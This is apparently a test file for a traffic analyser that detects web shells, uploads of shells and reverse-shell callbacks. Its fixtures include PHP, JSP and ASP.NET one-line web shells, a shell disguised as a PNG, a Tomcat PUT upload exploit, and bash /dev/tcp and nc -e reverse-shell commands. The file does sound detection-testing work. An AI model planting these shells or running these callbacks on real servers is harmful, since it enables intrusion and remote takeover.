/** Tools for web shells, well-known pages and commands with their output are told; forms, searches and uploads are not. */
import { describe, expect, test } from 'vitest';
import { checkFilter } from '../../../src/analysis/filtering.ts';
import { analyzeCapture, findingsOf } from '../../support/analyzeCapture.ts';
import { dialogue, web, type RequestOptions } from '../../support/dialogue.ts';

const run = async (uri: string, options: RequestOptions = {}) => findingsOf(await analyzeCapture(dialogue(web(uri, options)).bytes()), 'web-shell');
const FORM = 'Host: a\r\nContent-Type: application/x-www-form-urlencoded\r\n';

describe('is told', () => {
  test('a command and its output', async () => {
    const [finding, ...others] = await run('/uploads/shell.php?cmd=id', { answer: 'uid=33(www-data) gid=33(www-data) groups=33(www-data)\n' });
    expect(others).toEqual([]);
    expect(finding).toMatchObject({
      severity: 'high',
      subjects: [
        { role: 'attacker', address: '10.0.0.5' },
        { role: 'victim', address: '203.0.113.9', port: 80 },
      ],
    });
    expect(checkFilter(finding!.evidence.filter)).toMatchObject({ ok: true });
  });
  test.each<[string, string, RequestOptions]>([
    [
      'China Chopper',
      '/a.php',
      { method: 'POST', headers: FORM, body: 'pass=%40eval%01(base64_decode($_POST[z0]));&z0=QGluaV9zZXQo', answer: '->|/var/www|<-' },
    ],
    ['China Chopper in ASP.NET', '/a.aspx', { method: 'POST', headers: FORM, body: 'cmd=Response.Write("->|");var err:Exception;' }],
    [
      'China Chopper whose field is called pass, told by the request alone',
      '/a.php',
      { method: 'POST', headers: FORM, body: 'pass=%40eval(base64_decode($_POST[z0]));&z0=', answer: '' },
    ],
    ['AntSword', '/a.php', { method: 'POST', headers: 'Host: a\r\nUser-Agent: antSword/v2.1\r\n', body: 'x=1' }],
    ['Godzilla', '/a.jsp', { method: 'POST', headers: FORM, body: 'pass=abc', answer: '11cd6a8758984163fL1tMGKcIbSLCUKsU7Ydmk6c37ac826a2a04bc' }],
    ['Behinder', '/a.php', { method: 'POST', headers: FORM, body: 'Ab3+'.repeat(300) }],
    // As bd/agents/obfpost_php.tpl prints: $p$kh$r$kf.
    ['Weevely', '/agent.php', { method: 'POST', body: 'x7dQ', answer: 'Qa8 #x!kd92ms.Lp7d3a9f1c0b2eLvmCzXAg+Fg==1f4b90aa31c7' }],
    ['b374k', '/b.php', { answer: '<html><head><title>b374k 3.2</title>' }],
  ])('%s', async (_name, uri, options) => expect(await run(uri, options)).toHaveLength(1));
});
describe('is silent on', () => {
  test('a login whose password is never shown', async () => {
    const found = await run('/login.php', { method: 'POST', headers: FORM, body: 'user=a&pass=%40eval(hunter2', answer: '' });
    expect(JSON.stringify(found)).not.toContain('hunter2');
  });
  test.each<[string, string, RequestOptions]>([
    ['a command without output', '/shell.php?cmd=id', { answer: '<html>404</html>' }],
    ['a search that says id', '/search.php?q=id', { answer: '<html>3 results for id</html>' }],
    ['a number called id', '/item.php?id=7', { answer: 'uid=33' }],
    ['a token in hexadecimal', '/api.php', { method: 'POST', answer: '0123456789abcdef'.repeat(4) }],
    ['a token in base 64', '/api.php', { method: 'POST', answer: 'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5eg==' }],
    ['a login form', '/login.php', { method: 'POST', headers: FORM, body: 'user=a&text=evaluate(this)' }],
    ['an upload in base 64 from a page', '/up.php', { method: 'POST', headers: `${FORM}Referer: http://a/\r\n`, body: 'Ab3+'.repeat(300) }],
    ['an interface of JSON', '/api.php', { method: 'POST', headers: 'Host: a\r\nContent-Type: application/json\r\n', body: '{"cmd":"ls"}' }],
  ])('%s', async (_name, uri, options) => expect(await run(uri, options)).toEqual([]));
});

test('what only looks like Behinder has less weight from inside to outside: data that is sent away looks alike', async () => {
  const body = 'Ab3+'.repeat(300);
  expect(await run('/a.php', { method: 'POST', headers: FORM, body })).toMatchObject([
    { severity: 'low', subjects: [{ role: 'client' }, { role: 'server' }] },
  ]);
  const driven = dialogue(web('/a.php', { method: 'POST', headers: FORM, body }), { client: '203.0.113.9', server: '10.0.0.5' }).bytes();
  expect(findingsOf(await analyzeCapture(driven), 'web-shell')).toMatchObject([
    {
      severity: 'medium',
      subjects: [
        { role: 'attacker', address: '203.0.113.9' },
        { role: 'victim', address: '10.0.0.5' },
      ],
    },
  ]);
});

describe('pages that are uploaded, and told to call back', () => {
  const form = (name: string, code: string): RequestOptions => ({
    method: 'POST',
    headers: 'Host: a\r\nContent-Type: multipart/form-data; boundary=x\r\n',
    body: `--x\r\nContent-Disposition: form-data; name="f"${name === '' ? '' : `; filename="${name}"`}\r\n\r\n${code}\r\n--x--\r\n`,
  });
  test.each<[string, string, RequestOptions]>([
    ['PHP', '/upload.php', form('shell.php', '<?php system($_GET["cmd"]); ?>')],
    ['PHP that pretends to be a picture', '/upload.php', form('a.png', '\x89PNG\r\n<?php @eval($_POST["a"]);?>')],
    ['JSP', '/upload', form('x.jsp', '<%@ page import="java.io.*"%><% Runtime.getRuntime().exec(request.getParameter("cmd")); %>')],
    ['ASP.NET', '/upload', form('x.aspx', '<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>')],
    // CVE-2017-12615: Tomcat writes what is put, behind a slash too.
    ['by PUT', '/x.jsp/', { method: 'PUT', body: '<% Runtime.getRuntime().exec(request.getParameter("c")); %>', status: '201 Created' }],
  ])('%s', async (_name, uri, options) =>
    expect(await run(uri, options)).toMatchObject([{ severity: 'medium', title: '10.0.0.5 uploads a web shell to 203.0.113.9 port 80' }]),
  );
  test.each([
    '/x.php?cmd=bash%20-c%20%27bash%20-i%20%3E%26%20/dev/tcp/192.0.2.9/4444%200%3E%261%27',
    '/x.php?cmd=nc+-e+/bin/sh+192.0.2.9+4444',
    '/x.php?cmd=nc%20192.0.2.9%204444%20-e%20cmd.exe',
  ])('%s', async (uri) =>
    expect(await run(uri)).toMatchObject([{ severity: 'medium', description: expect.stringContaining('call back with a shell') as unknown }]),
  );
  test.each<[string, string, RequestOptions]>([
    ['code in a form', '/1.php', { method: 'POST', headers: FORM, body: 'a=system%28%27whoami%27%29%3B' }],
    ['code in the address', "/1.php?a=system('whoami');", { answer: 'www-data\n' }],
    ['a page of any name', '/shell?cmd=whoami', { answer: 'root\n' }],
  ])('%s', async (_name, uri, options) => expect(await run(uri, options)).toMatchObject([{ severity: 'high' }]));
  test.each<[string, string, RequestOptions]>([
    ['a wiki that quotes one', '/index.php', form('', 'Attackers write <?php system($_GET["cmd"]); ?> into a file.')],
    ['an upload of honest PHP', '/upload.php', form('functions.php', '<?php\nfunction add($a, $b) { return $a + $b; }\n')],
    ['a search for how it is done', '/search.php?q=bash+-i+%3E%26+/dev/tcp/192.0.2.9/4444', {}],
    ['a search of another name', '/search.php?text=nc+-e+/bin/sh+192.0.2.9+4444', {}],
    ['a command that runs and says nothing', '/api?command=status', { answer: 'ok' }],
  ])('silent on %s', async (_name, uri, options) => expect(await run(uri, options)).toEqual([]));
});
